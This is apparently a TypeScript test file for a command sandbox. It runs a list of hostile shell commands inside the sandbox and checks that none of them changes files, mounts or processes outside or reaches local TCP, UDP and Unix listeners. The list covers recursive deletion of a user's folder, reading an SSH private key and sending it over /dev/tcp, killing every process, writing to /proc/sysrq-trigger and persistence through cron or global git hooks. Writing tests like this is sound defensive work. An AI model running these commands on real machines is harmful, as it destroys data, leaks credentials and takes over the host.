import assert from "node:assert/strict";
import dgram from "node:dgram";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import { campaignRuns } from "../../../fakes/campaignRuns.ts";
import { type TempFolder, tempFolder } from "../../../fakes/workspace/tempFolder.ts";
import type { ShadowWorkspace } from "../shadow/shadowWorkspace.ts";
import { inNewSandbox, sandboxWorkspace, shellCommand, startProgram } from "./sandboxPlace.ts";

// More by hand: GRAFT_SHADOW_COMMANDS=1000.
const COMMANDS = Number(process.env.GRAFT_SHADOW_COMMANDS ?? campaignRuns(24, 120));
const MARK = `graft-hostile-${process.pid}`;

/** `$1` is a folder of the user's outside of the workspace, `$2` and `$3` ports of TCP and UDP. */
const HOSTILE = [
  'rm -rf "$1"/* "$1"/.[a-z]*',
  'echo gone > "$1/notes.txt"; : > "$1/new"',
  'mv "$1/notes.txt" "$1/moved"; ln -s /etc "$1/link"',
  'chmod -R 000 "$1"; chown -R 12345 "$1"; touch -d 2001-01-01 "$1/notes.txt"',
  'ln -s "$1" here; echo gone > here/notes.txt; rm -rf here/*',
  'ln "$1/notes.txt" hard && echo gone > hard',
  'cat "$1/.ssh/id_ed25519" > stolen; test ! -s stolen || exec 5<>/dev/tcp/127.0.0.1/"$2"',
  'echo x > /tmp/$MARK; echo x > /var/tmp/$MARK; echo x > "$HOME/$MARK"',
  "bash -c 'echo stolen > /dev/tcp/127.0.0.1/$0' \"$2\"",
  "bash -c 'echo stolen > /dev/udp/127.0.0.1/$0' \"$3\"",
  'perl -MIO::Socket::INET -e \'IO::Socket::INET->new(PeerAddr => shift, PeerPort => shift)\' "$4" "$2"',
  "perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or exit; connect(S, sockaddr_un(shift))' \"$5\"",
  "(setsid sleep 600 >/dev/null 2>&1 &) ; exec -a $MARK true",
  "nohup sleep 601 >/dev/null 2>&1 & disown; true",
  "perl -e 'fork and exit; require POSIX; POSIX::setsid(); fork and exit; sleep 602'",
  "unshare -Urm sh -c 'mount --bind /etc .; sleep 603' &",
  'mount -t tmpfs none "$1"; mount --bind "$1" .; umount -l /tmp; mount -o remount,rw /',
  "cd /proc; for each in [0-9]*; do kill -9 $each 2>/dev/null; done",
  "perl -e 'kill 9, getppid(); kill 9, -1'",
  'echo core > /proc/sys/kernel/core_pattern; echo 1 > /proc/sysrq-trigger; echo "$$" > /sys/fs/cgroup/cgroup.procs',
  "ls -l /proc/self/fd; for each in 3 4 5 6 7 8 9; do echo x >&$each; done",
  "crontab - </dev/null; at now </dev/null; systemctl --user start x; dbus-send --session /x",
  "chroot / sh -c 'cd ../../..; rm -rf home'; nsenter -t 1 -m true; ptrace 1",
  "git config --global core.hooksPath /x; npm config set prefix /x; pip config set global.x y",
];

describe("hostile commands in a sandbox", () => {
  let workspace: ShadowWorkspace;
  let home: TempFolder;
  const reached: string[] = [];
  const servers: { close(): unknown }[] = [];

  before(async function () {
    workspace = await sandboxWorkspace(this);
    home = await tempFolder({ "notes.txt": "mine\n", ".ssh/id_ed25519": "key\n" }, "/var/tmp");
  });
  after(async () => {
    for (const server of servers) server.close();
    await home?.remove();
    await workspace?.remove();
  });

  it(`${COMMANDS} of them leave no byte, packet, process or mount outside`, async () => {
    const outer = Object.values(os.networkInterfaces()).flatMap((found) => found ?? []);
    const own = outer.find(({ internal, family }) => !internal && family === "IPv4")?.address;
    const socket = `${home.root}/out.sock`;
    const [tcp, udp] = [await listen(0), await listenToPackets()];
    await listen(socket);
    const seen = () => [
      workspace.snapshot(),
      treeOf(home.root),
      mounts([workspace.root, home.root]),
    ];
    const before = seen();
    for (let at = 0; at < COMMANDS; at++) {
      const command = HOSTILE[at % HOSTILE.length] ?? "";
      const args = [home.root, tcp, udp, own ?? "127.0.0.1", socket].join(" ");
      const line = `export MARK=${MARK} HOME=${home.root}; set -- ${args}; ${command}`;
      await inNewSandbox(workspace, async (sandbox) => {
        const program = sandbox.enter(shellCommand(line, workspace.root));
        const { child } = await startProgram(program);
        await child.exited;
      });
      assert.deepEqual(seen(), before, command);
      assert.deepEqual([reached, left()], [[], []], command);
    }
  });

  async function listen(at: number | string): Promise<number | string> {
    const server = net.createServer((each) => {
      reached.push(String(at));
      each.destroy();
    });
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(at, resolve));
    const address = server.address();
    return address !== null && typeof address === "object" ? address.port : at;
  }

  async function listenToPackets(): Promise<number> {
    const server = dgram.createSocket("udp4", () => reached.push("udp"));
    servers.push(server);
    await new Promise<void>((resolve) => server.bind(0, resolve));
    return server.address().port;
  }
});

/** Each entry of a folder, with what it is and holds. */
function treeOf(root: string): readonly string[] {
  return fs.readdirSync(root, { recursive: true, encoding: "utf8" }).flatMap((name) => {
    const { mode, uid, mtimeMs, size } = fs.lstatSync(`${root}/${name}`);
    return [`${name} ${mode} ${uid} ${mtimeMs} ${size}`];
  });
}

/** All that is mounted, but for what other tests mount meanwhile in folders of their own. */
function mounts(own: readonly string[]): readonly string[] {
  const lines = fs.readFileSync("/proc/self/mounts", "utf8").split("\n");
  return lines.filter(
    (line) => !line.includes("/graft-test-") || own.some((each) => line.includes(each)),
  );
}

/** What has the mark of these commands in its environment, and files of that name. */
function left(): readonly string[] {
  const processes = fs.readdirSync("/proc").filter((name) => {
    try {
      return (
        /^\d+$/.test(name) &&
        Number(name) !== process.pid &&
        fs.readFileSync(`/proc/${name}/environ`, "utf8").includes(`MARK=${MARK}`)
      );
    } catch {
      return false;
    }
  });
  return [...processes, ...["/tmp", "/var/tmp"].filter((at) => fs.existsSync(`${at}/${MARK}`))];
}
